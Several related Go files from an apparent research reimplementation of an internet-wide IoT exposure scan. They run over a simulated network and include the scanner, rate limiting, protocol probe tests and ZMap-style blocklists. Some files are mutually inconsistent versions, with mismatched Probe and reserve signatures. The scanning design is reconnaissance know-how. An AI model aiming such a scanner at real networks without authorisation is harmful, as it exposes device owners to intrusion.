// The scanner's Workers budget is the total across all modules, split by
// splitWorkers: every module gets at least one worker and the whole budget
// is spent — the old Workers/len(modules) integer division silently idled
// the remainder (2 of 128 workers with the default six modules, more with
// -extended's eight).
func (s *Scanner) RunAllParallel(ctx context.Context, modules []ProbeModule) (map[iot.Protocol][]*Result, map[iot.Protocol]Stats) {
	if len(modules) == 0 {
		return map[iot.Protocol][]*Result{}, map[iot.Protocol]Stats{}
	}
	perModule := splitWorkers(s.cfg.Workers, len(modules))

	results := make(map[iot.Protocol][]*Result, len(modules))
	stats := make(map[iot.Protocol]Stats, len(modules))
	var (
		mu sync.Mutex
		wg sync.WaitGroup
	)
	for i, m := range modules {
		i, m := i, m
		wg.Add(1)
		go func() {
			defer wg.Done()
			subCfg := s.cfg
			subCfg.Workers = perModule[i]
			rs, st := NewScanner(subCfg).runCollect(ctx, m)
			mu.Lock()
			results[m.Protocol()] = rs
			stats[m.Protocol()] = st
			mu.Unlock()
		}()
	}
	wg.Wait()
	return results, stats
}

// splitWorkers divides a total worker budget across n modules: each gets the
// integer share, the remainder is distributed one-each to the first
// total%n modules, and no module drops below one worker. For total >= n the
// per-module counts sum exactly to total.
func splitWorkers(total, n int) []int {
	counts := make([]int, n)
	if n == 0 {
		return counts
	}
	base, rem := total/n, total%n
	for i := range counts {
		counts[i] = base
		if i < rem {
			counts[i]++
		}
		if counts[i] < 1 {
			counts[i] = 1
		}
	}
	return counts
}

// rateLimiter is a token bucket over wall time. Tokens are granted in
// batches (reserve) so throttled workers pay one mutex round-trip per
// grant, not per probe.
type rateLimiter struct {
	mu     sync.Mutex
	next   time.Time // scheduled time of the next ungranted token
	period time.Duration
}

// maxGrantHorizon bounds how far ahead of wall time one reserve call may
// schedule tokens. It caps the burst after a grant to horizon/period
// probes and keeps per-grant sleeps short even at low rates.
const maxGrantHorizon = 100 * time.Millisecond

// newRateLimiter builds a limiter emitting perSec tokens per second.
// perSec < 1 is clamped to 1; perSec > 1e9 is clamped to the fastest
// enforceable rate (one token per nanosecond) instead of silently
// disabling throttling via a zero period.
func newRateLimiter(perSec int) *rateLimiter {
	if perSec < 1 {
		perSec = 1
	}
	period := time.Second / time.Duration(perSec)
	if period <= 0 {
		period = 1
	}
	return &rateLimiter{period: period, next: time.Now()}
}

// reserve grants between 1 and max tokens in a single lock round-trip,
// sleeping until the first granted token's scheduled slot. It returns the
// number granted; the caller may perform that many probes without touching
// the limiter again. If ctx is canceled while waiting for the slot, reserve
// returns 0 immediately — a throttled sweep aborts within one token period
// instead of draining its whole schedule.
//
// After an idle gap the schedule restarts at the current time (steady
// state) rather than granting the backlog as a burst.
func (r *rateLimiter) reserve(ctx context.Context, max int) int {
	if max < 1 {
		max = 1
	}
	r.mu.Lock()
	now := time.Now()
	if r.next.Before(now) {
		r.next = now // idle gap: resume at steady state, no accumulated burst
	}
	sleep := r.next.Sub(now)
	n := 1
	if budget := maxGrantHorizon - sleep; budget > r.period {
		if k := int(budget / r.period); k < max {
			n = k
		} else {
			n = max
		}
	}
	r.next = r.next.Add(time.Duration(n) * r.period)
	r.mu.Unlock()
	if sleep > 0 {
		if ctx == nil {
			time.Sleep(sleep)
		} else {
			t := time.NewTimer(sleep)
			select {
			case <-t.C:
			case <-ctx.Done():
				t.Stop()
				return 0
			}
		}
	}
	return n
}

// wait blocks until one token is available (reserve of exactly one), or ctx
// is canceled (returns false).
func (r *rateLimiter) wait(ctx context.Context) bool {
	return r.reserve(ctx, 1) > 0
}
