package scan

import (
	"context"
	"sort"
	"sync"
	"time"

	"openhire/internal/iot"
	"openhire/internal/netsim"
)

// Result is one responsive host observed by the scan: the raw banner or UDP
// response plus protocol-specific metadata, stored for classification
// exactly as the paper stores ZGrab output in its database (Section 3.1.1).
type Result struct {
	Time      time.Time
	IP        netsim.IPv4
	Port      uint16
	Protocol  iot.Protocol
	Transport netsim.Transport
	// Banner is the raw application-layer bytes for TCP protocols.
	Banner []byte
	// Response is the raw datagram for UDP protocols.
	Response []byte
	// Meta carries parsed fields ("mqtt.code", "amqp.version",
	// "xmpp.mechanisms", "upnp.server", ...).
	Meta map[string]string
}

// ProbeModule probes one protocol. Implementations are stateless and safe
// for concurrent use.
type ProbeModule interface {
	// Protocol identifies the module.
	Protocol() iot.Protocol
	// Ports lists the ports to probe, in order.
	Ports() []uint16
	// Probe checks one endpoint and returns a Result if it responded.
	Probe(ctx context.Context, net *netsim.Network, src netsim.IPv4, dst netsim.Endpoint) (*Result, bool)
}

// Config configures a scan run.
type Config struct {
	// Network is the fabric to scan.
	Network *netsim.Network
	// Source is the scanning host's address (the paper used a fixed
	// university address so targets could identify the research scan).
	Source netsim.IPv4
	// Prefix is the range to scan.
	Prefix netsim.Prefix
	// Seed drives the address permutation.
	Seed uint64
	// Blocklist excludes ranges (nil = DefaultBlocklist ∪ EuropeBlocklist).
	Blocklist *netsim.PrefixSet
	// Workers is the probe concurrency (0 = 64).
	Workers int
	// RatePerSec throttles probes when > 0. The simulation usually runs
	// unthrottled; the examples demonstrate throttled scans.
	RatePerSec int
	// Shard / Shards split the permutation across cooperating scanners.
	Shard, Shards int
}

// Stats summarizes one protocol scan.
type Stats struct {
	Probed    uint64
	Blocked   uint64
	Responded uint64
	Elapsed   time.Duration
}

// Scanner runs probe modules over a prefix.
type Scanner struct {
	cfg Config
}

// NewScanner validates cfg and builds a Scanner.
func NewScanner(cfg Config) *Scanner {
	if cfg.Workers == 0 {
		cfg.Workers = 64
	}
	if cfg.Blocklist == nil {
		cfg.Blocklist = CombinedBlocklist(DefaultBlocklist(), EuropeBlocklist())
	}
	if cfg.Shards < 1 {
		cfg.Shards = 1
	}
	return &Scanner{cfg: cfg}
}

// targetBatchSize is how many (ip, port) pairs ride one channel send. The
// feed goroutine and the workers meet at the channel once per batch instead
// of once per probe, so channel synchronization disappears from the
// per-probe cost.
const targetBatchSize = 256

// target is one (address, port) probe assignment.
type target struct {
	ip   netsim.IPv4
	port uint16
}

// workerStats is one worker's private counters, merged into the run total
// after the feed closes. Padded to a cache line so adjacent shards never
// false-share.
type workerStats struct {
	probed    uint64
	responded uint64
	_         [48]byte
}

// Run scans the prefix with one probe module, streaming results to emit.
// It returns scan statistics.
//
// The hot path is contention-free: targets arrive in batches, each worker
// counts into its own cache-line-padded shard, and the rate limiter (when
// enabled) grants tokens in batches. The only cross-worker synchronization
// left per batch is one channel receive.
func (s *Scanner) Run(ctx context.Context, module ProbeModule, emit func(*Result)) Stats {
	if ctx == nil {
		ctx = context.Background()
	}
	start := time.Now()

	batches := make(chan []target, 2*s.cfg.Workers)

	var limiter *rateLimiter
	if s.cfg.RatePerSec > 0 {
		limiter = newRateLimiter(s.cfg.RatePerSec)
	}

	shards := make([]workerStats, s.cfg.Workers)
	var wg sync.WaitGroup
	for w := 0; w < s.cfg.Workers; w++ {
		wg.Add(1)
		go func(shard *workerStats) {
			defer wg.Done()
			for batch := range batches {
				for i := 0; i < len(batch); {
					n := len(batch) - i
					if limiter != nil {
						n = limiter.reserve(n)
					}
					for _, t := range batch[i : i+n] {
						res, ok := module.Probe(ctx, s.cfg.Network, s.cfg.Source,
							netsim.Endpoint{IP: t.ip, Port: t.port})
						shard.probed++
						if ok {
							shard.responded++
							if emit != nil {
								emit(res)
							}
						}
					}
					i += n
				}
			}
		}(&shards[w])
	}

	it := NewAddressIterator(s.cfg.Prefix, s.cfg.Seed, s.cfg.Blocklist, s.cfg.Shard, s.cfg.Shards)
	ports := module.Ports()
	batch := make([]target, 0, targetBatchSize)
feed:
	for {
		ip, ok := it.Next()
		if !ok {
			break
		}
		for _, port := range ports {
			batch = append(batch, target{ip: ip, port: port})
			if len(batch) == targetBatchSize {
				select {
				case batches <- batch:
					batch = make([]target, 0, targetBatchSize)
				case <-ctx.Done():
					break feed
				}
			}
		}
	}
	if len(batch) > 0 {
		select {
		case batches <- batch:
		case <-ctx.Done():
		}
	}
	close(batches)
	wg.Wait()

	var stats Stats
	for i := range shards {
		stats.Probed += shards[i].probed
		stats.Responded += shards[i].responded
	}
	stats.Elapsed = time.Since(start)
	return stats
}

// runCollect runs one module and returns its results sorted by (IP, Port),
// so result sets are deterministic for a fixed seed regardless of worker
// interleaving.
func (s *Scanner) runCollect(ctx context.Context, m ProbeModule) ([]*Result, Stats) {
	var (
		mu  sync.Mutex
		out []*Result
	)
	st := s.Run(ctx, m, func(r *Result) {
		mu.Lock()
		out = append(out, r)
		mu.Unlock()
	})
	sort.Slice(out, func(i, j int) bool {
		if out[i].IP != out[j].IP {
			return out[i].IP < out[j].IP
		}
		return out[i].Port < out[j].Port
	})
	return out, st
}

// RunAll scans with every module sequentially, returning all results keyed
// by protocol. Per-protocol result slices are sorted by (IP, Port), so the
// output for a fixed seed is deterministic.
func (s *Scanner) RunAll(ctx context.Context, modules []ProbeModule) (map[iot.Protocol][]*Result, map[iot.Protocol]Stats) {
	results := make(map[iot.Protocol][]*Result, len(modules))
	stats := make(map[iot.Protocol]Stats, len(modules))
	for _, m := range modules {
		rs, st := s.runCollect(ctx, m)
		results[m.Protocol()] = rs
		stats[m.Protocol()] = st
	}
	return results, stats
}

// RunAllParallel scans with every module concurrently. Modules are
// stateless, and each module walks its own address permutation, so running
// them in parallel divides wall-clock by up to the module count while
// producing the same per-protocol result sets as sequential RunAll
// (slices sorted by (IP, Port), deterministic for a fixed seed).
//
// The scanner's Workers budget is the total across all modules: each module
// gets Workers/len(modules) probe workers (at least 1).
func (s *Scanner) RunAllParallel(ctx context.Context, modules []ProbeModule) (map[iot.Protocol][]*Result, map[iot.Protocol]Stats) {
	if len(modules) == 0 {
		return map[iot.Protocol][]*Result{}, map[iot.Protocol]Stats{}
	}
	perModule := s.cfg.Workers / len(modules)
	if perModule < 1 {
		perModule = 1
	}
	subCfg := s.cfg
	subCfg.Workers = perModule

	results := make(map[iot.Protocol][]*Result, len(modules))
	stats := make(map[iot.Protocol]Stats, len(modules))
	var (
		mu sync.Mutex
		wg sync.WaitGroup
	)
	for _, m := range modules {
		m := m
		wg.Add(1)
		go func() {
			defer wg.Done()
			rs, st := NewScanner(subCfg).runCollect(ctx, m)
			mu.Lock()
			results[m.Protocol()] = rs
			stats[m.Protocol()] = st
			mu.Unlock()
		}()
	}
	wg.Wait()
	return results, stats
}

// rateLimiter is a token bucket over wall time. Tokens are granted in
// batches (reserve) so throttled workers pay one mutex round-trip per
// grant, not per probe.
type rateLimiter struct {
	mu     sync.Mutex
	next   time.Time // scheduled time of the next ungranted token
	period time.Duration
}

// maxGrantHorizon bounds how far ahead of wall time one reserve call may
// schedule tokens. It caps the burst after a grant to horizon/period
// probes and keeps per-grant sleeps short even at low rates.
const maxGrantHorizon = 100 * time.Millisecond

// newRateLimiter builds a limiter emitting perSec tokens per second.
// perSec < 1 is clamped to 1; perSec > 1e9 is clamped to the fastest
// enforceable rate (one token per nanosecond) instead of silently
// disabling throttling via a zero period.
func newRateLimiter(perSec int) *rateLimiter {
	if perSec < 1 {
		perSec = 1
	}
	period := time.Second / time.Duration(perSec)
	if period <= 0 {
		period = 1
	}
	return &rateLimiter{period: period, next: time.Now()}
}

// reserve grants between 1 and max tokens in a single lock round-trip,
// sleeping until the first granted token's scheduled slot. It returns the
// number granted; the caller may perform that many probes without touching
// the limiter again.
//
// After an idle gap the schedule restarts at the current time (steady
// state) rather than granting the backlog as a burst.
func (r *rateLimiter) reserve(max int) int {
	if max < 1 {
		max = 1
	}
	r.mu.Lock()
	now := time.Now()
	if r.next.Before(now) {
		r.next = now // idle gap: resume at steady state, no accumulated burst
	}
	sleep := r.next.Sub(now)
	n := 1
	if budget := maxGrantHorizon - sleep; budget > r.period {
		if k := int(budget / r.period); k < max {
			n = k
		} else {
			n = max
		}
	}
	r.next = r.next.Add(time.Duration(n) * r.period)
	r.mu.Unlock()
	if sleep > 0 {
		time.Sleep(sleep)
	}
	return n
}

// wait blocks until one token is available (reserve of exactly one).
func (r *rateLimiter) wait() {
	r.reserve(1)
}
