package scan

import (
	"context"
	"strings"
	"testing"
	"testing/quick"

	"openhire/internal/iot"
	"openhire/internal/netsim"
)

func TestPermutationCoversDomain(t *testing.T) {
	for _, n := range []uint64{1, 2, 7, 100, 1024, 65537} {
		pm := NewPermutation(n, 42)
		seen := make(map[uint64]bool, n)
		for {
			v, ok := pm.Next()
			if !ok {
				break
			}
			if v >= n {
				t.Fatalf("n=%d: value %d out of range", n, v)
			}
			if seen[v] {
				t.Fatalf("n=%d: duplicate %d", n, v)
			}
			seen[v] = true
		}
		if uint64(len(seen)) != n {
			t.Fatalf("n=%d: covered %d", n, len(seen))
		}
	}
}

func TestPermutationSeedsDiffer(t *testing.T) {
	a := NewPermutation(1000, 1)
	b := NewPermutation(1000, 2)
	same := 0
	for i := 0; i < 100; i++ {
		va, _ := a.Next()
		vb, _ := b.Next()
		if va == vb {
			same++
		}
	}
	if same > 20 {
		t.Fatalf("%d/100 positions identical across seeds", same)
	}
}

func TestPermutationReset(t *testing.T) {
	pm := NewPermutation(50, 9)
	var first []uint64
	for {
		v, ok := pm.Next()
		if !ok {
			break
		}
		first = append(first, v)
	}
	pm.Reset()
	for i := 0; ; i++ {
		v, ok := pm.Next()
		if !ok {
			break
		}
		if v != first[i] {
			t.Fatalf("position %d differs after reset", i)
		}
	}
}

func TestPermutationNotSequential(t *testing.T) {
	pm := NewPermutation(10000, 7)
	sequentialRuns := 0
	prev, _ := pm.Next()
	for i := 0; i < 1000; i++ {
		v, _ := pm.Next()
		if v == prev+1 {
			sequentialRuns++
		}
		prev = v
	}
	if sequentialRuns > 10 {
		t.Fatalf("%d sequential steps: permutation too ordered", sequentialRuns)
	}
}

func TestIsPrimeProperty(t *testing.T) {
	if err := quick.Check(func(v uint32) bool {
		n := uint64(v%100000) + 2
		got := isPrime(n)
		want := true
		for d := uint64(2); d*d <= n; d++ {
			if n%d == 0 {
				want = false
				break
			}
		}
		return got == want
	}, &quick.Config{MaxCount: 300}); err != nil {
		t.Fatal(err)
	}
}

func TestNextPrime(t *testing.T) {
	cases := map[uint64]uint64{1: 2, 2: 2, 3: 3, 4: 5, 14: 17, 100: 101}
	for in, want := range cases {
		if got := nextPrime(in); got != want {
			t.Errorf("nextPrime(%d) = %d, want %d", in, got, want)
		}
	}
}

func TestShardsPartitionAddresses(t *testing.T) {
	prefix := netsim.MustParsePrefix("50.0.0.0/24")
	const shards = 4
	seen := make(map[netsim.IPv4]int)
	for s := 0; s < shards; s++ {
		it := NewAddressIterator(prefix, 99, nil, s, shards)
		for {
			ip, ok := it.Next()
			if !ok {
				break
			}
			seen[ip]++
		}
	}
	if len(seen) != 256 {
		t.Fatalf("shards covered %d addresses, want 256", len(seen))
	}
	for ip, n := range seen {
		if n != 1 {
			t.Fatalf("%v visited %d times", ip, n)
		}
	}
}

func TestBlocklistExcluded(t *testing.T) {
	prefix := netsim.MustParsePrefix("192.168.0.0/24")
	it := NewAddressIterator(prefix, 1, DefaultBlocklist(), 0, 1)
	if _, ok := it.Next(); ok {
		t.Fatal("blocklisted prefix yielded addresses")
	}
}

// buildTestWorld assembles a small universe with boosted density.
func buildTestWorld(t testing.TB, boost float64) (*netsim.Network, *iot.Universe, netsim.Prefix) {
	t.Helper()
	prefix := netsim.MustParsePrefix("50.0.0.0/16")
	u := iot.NewUniverse(iot.UniverseConfig{Seed: 77, Prefix: prefix, DensityBoost: boost})
	n := netsim.NewNetwork(netsim.NewSimClock(netsim.ExperimentStart))
	n.AddProvider(prefix, u)
	return n, u, prefix
}

func TestScanFindsTelnetPopulation(t *testing.T) {
	n, u, prefix := buildTestWorld(t, 200)
	s := NewScanner(Config{
		Network: n,
		Source:  netsim.MustParseIPv4("130.226.0.1"),
		Prefix:  prefix,
		Seed:    5,
		Workers: 32,
	})
	var results []*Result
	var mu = make(chan struct{}, 1)
	mu <- struct{}{}
	stats := s.Run(context.Background(), TelnetModule{}, func(r *Result) {
		<-mu
		results = append(results, r)
		mu <- struct{}{}
	})
	if stats.Probed == 0 || stats.Responded == 0 {
		t.Fatalf("stats %+v", stats)
	}
	// Expected exposure: density×boost×size. Allow generous slack, plus
	// wild honeypots which also answer Telnet.
	want := u.ExpectedExposed(iot.ProtoTelnet)
	got := float64(len(results))
	if got < want*0.8 || got > want*1.3 {
		t.Fatalf("found %v telnet hosts, expected ~%.0f", got, want)
	}
	// Every result must carry a banner.
	for _, r := range results[:10] {
		if len(r.Banner) == 0 {
			t.Fatalf("empty banner for %v", r.IP)
		}
	}
}

func TestScanUDPCoAP(t *testing.T) {
	n, u, prefix := buildTestWorld(t, 400)
	s := NewScanner(Config{
		Network: n, Source: 1, Prefix: prefix, Seed: 6, Workers: 32,
	})
	count := 0
	disclosing := 0
	done := make(chan struct{}, 1)
	done <- struct{}{}
	s.Run(context.Background(), CoAPModule{}, func(r *Result) {
		<-done
		count++
		if r.Meta["coap.disclosed"] == "true" {
			disclosing++
		}
		done <- struct{}{}
	})
	want := u.ExpectedExposed(iot.ProtoCoAP)
	if float64(count) < want*0.7 {
		t.Fatalf("CoAP responses %d, expected ~%.0f", count, want)
	}
	// ~88% of exposed CoAP devices disclose resources, ~1.5% answer with
	// banners, ~11% answer 4.01 (responding but not disclosing).
	share := float64(disclosing) / float64(count)
	if share < 0.75 || share > 0.98 {
		t.Fatalf("disclosure share %.2f", share)
	}
}

func TestScanRespectsContext(t *testing.T) {
	n, _, prefix := buildTestWorld(t, 1)
	s := NewScanner(Config{Network: n, Source: 1, Prefix: prefix, Seed: 7, Workers: 4})
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	stats := s.Run(ctx, TelnetModule{}, nil)
	if stats.Probed > uint64(prefix.Size()) {
		t.Fatalf("probed %d", stats.Probed)
	}
}

func TestRunAllCollectsPerProtocol(t *testing.T) {
	n, _, _ := buildTestWorld(t, 300)
	// Use a /20 slice for speed.
	small := netsim.MustParsePrefix("50.0.0.0/20")
	s := NewScanner(Config{Network: n, Source: 1, Prefix: small, Seed: 8, Workers: 32})
	results, stats := s.RunAll(context.Background(), AllModules())
	if len(stats) != 6 {
		t.Fatalf("stats for %d protocols", len(stats))
	}
	for proto, st := range stats {
		if st.Probed == 0 {
			t.Errorf("%s probed 0", proto)
		}
	}
	// Telnet and MQTT dominate exposure (Table 4 ordering).
	if len(results[iot.ProtoTelnet]) <= len(results[iot.ProtoAMQP]) {
		t.Fatalf("telnet %d <= amqp %d: Table 4 ordering violated",
			len(results[iot.ProtoTelnet]), len(results[iot.ProtoAMQP]))
	}
}

func TestMQTTProbeRecordsCode(t *testing.T) {
	n, u, prefix := buildTestWorld(t, 300)
	s := NewScanner(Config{Network: n, Source: 1, Prefix: prefix, Seed: 9, Workers: 32})
	codes := make(map[string]int)
	done := make(chan struct{}, 1)
	done <- struct{}{}
	s.Run(context.Background(), MQTTModule{}, func(r *Result) {
		<-done
		codes[r.Meta["mqtt.code"]]++
		done <- struct{}{}
	})
	_ = u
	if codes["0"] == 0 {
		t.Fatal("no open brokers observed")
	}
	if codes["5"] == 0 {
		t.Fatal("no auth-required brokers observed")
	}
	if codes["0"] > codes["5"] {
		t.Fatalf("open (%d) should be rarer than authed (%d)", codes["0"], codes["5"])
	}
	for code := range codes {
		if code != "0" && code != "4" && code != "5" {
			t.Fatalf("unexpected code %q", code)
		}
	}
}

func TestUPnPProbeMeta(t *testing.T) {
	n, _, _ := buildTestWorld(t, 300)
	small := netsim.MustParsePrefix("50.0.0.0/18")
	s := NewScanner(Config{Network: n, Source: 1, Prefix: small, Seed: 10, Workers: 32})
	var sawServer bool
	done := make(chan struct{}, 1)
	done <- struct{}{}
	s.Run(context.Background(), UPnPModule{}, func(r *Result) {
		<-done
		if strings.Contains(r.Meta["upnp.server"], "UPnP") {
			sawServer = true
		}
		done <- struct{}{}
	})
	if !sawServer {
		t.Fatal("no SERVER headers captured")
	}
}

func TestModuleFor(t *testing.T) {
	for _, p := range iot.ScannedProtocols {
		m, ok := ModuleFor(p)
		if !ok || m.Protocol() != p {
			t.Fatalf("ModuleFor(%s) = %v, %v", p, m, ok)
		}
	}
	if _, ok := ModuleFor(iot.ProtoSSH); ok {
		t.Fatal("SSH module should not exist")
	}
}

func BenchmarkPermutationNext(b *testing.B) {
	pm := NewPermutation(1<<24, 1)
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		if _, ok := pm.Next(); !ok {
			pm.Reset()
		}
	}
}

func BenchmarkTelnetProbe(b *testing.B) {
	n, _, _ := buildTestWorld(b, 200)
	s := NewScanner(Config{Network: n, Source: 1, Prefix: netsim.MustParsePrefix("50.0.0.0/16"), Workers: 1})
	_ = s
	m := TelnetModule{}
	// Find one live telnet host first.
	var target netsim.Endpoint
	it := NewAddressIterator(netsim.MustParsePrefix("50.0.0.0/16"), 1, nil, 0, 1)
	for {
		ip, ok := it.Next()
		if !ok {
			b.Fatal("no live host")
		}
		if _, out := m.Probe(context.Background(), n, 1, netsim.Endpoint{IP: ip, Port: 23}, ProbeSpec{}); out == OutcomeOK {
			target = netsim.Endpoint{IP: ip, Port: 23}
			break
		}
	}
	b.ResetTimer()
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		if _, out := m.Probe(context.Background(), n, 1, target, ProbeSpec{}); out != OutcomeOK {
			b.Fatal("probe failed")
		}
	}
}
