package scan

import "openhire/internal/netsim"

// DefaultBlocklist reproduces the structure of ZMap's shipped blocklist:
// reserved, private, multicast and special-purpose ranges that must never be
// probed (Section 3.1.1 — "the scans followed the default blocklist provided
// by ZMap").
func DefaultBlocklist() *netsim.PrefixSet {
	return netsim.NewPrefixSet(
		netsim.MustParsePrefix("0.0.0.0/8"),       // "this" network
		netsim.MustParsePrefix("10.0.0.0/8"),      // RFC 1918
		netsim.MustParsePrefix("100.64.0.0/10"),   // CGN shared space
		netsim.MustParsePrefix("127.0.0.0/8"),     // loopback
		netsim.MustParsePrefix("169.254.0.0/16"),  // link local
		netsim.MustParsePrefix("172.16.0.0/12"),   // RFC 1918
		netsim.MustParsePrefix("192.0.0.0/24"),    // IETF protocol assignments
		netsim.MustParsePrefix("192.0.2.0/24"),    // TEST-NET-1
		netsim.MustParsePrefix("192.88.99.0/24"),  // 6to4 relay anycast
		netsim.MustParsePrefix("192.168.0.0/16"),  // RFC 1918
		netsim.MustParsePrefix("198.18.0.0/15"),   // benchmarking
		netsim.MustParsePrefix("198.51.100.0/24"), // TEST-NET-2
		netsim.MustParsePrefix("203.0.113.0/24"),  // TEST-NET-3
		netsim.MustParsePrefix("224.0.0.0/4"),     // multicast
		netsim.MustParsePrefix("240.0.0.0/4"),     // reserved
	)
}

// EuropeBlocklist models the FireHOL-project European exclusion the paper
// layered on top of the default list for compliance reasons (Appendix A.3).
// In the simulated universe, a fixed set of /12 blocks stands in for the
// European registries' allocations; the experiment harness accounts for the
// excluded volume when scaling counts.
func EuropeBlocklist() *netsim.PrefixSet {
	return netsim.NewPrefixSet(
		netsim.MustParsePrefix("62.0.0.0/12"),
		netsim.MustParsePrefix("80.16.0.0/12"),
		netsim.MustParsePrefix("151.0.0.0/12"),
		netsim.MustParsePrefix("193.32.0.0/12"),
		netsim.MustParsePrefix("217.64.0.0/12"),
	)
}

// CombinedBlocklist merges sets into one.
func CombinedBlocklist(sets ...*netsim.PrefixSet) *netsim.PrefixSet {
	out := netsim.NewPrefixSet()
	for _, s := range sets {
		for _, p := range s.Prefixes() {
			out.Add(p)
		}
	}
	return out
}
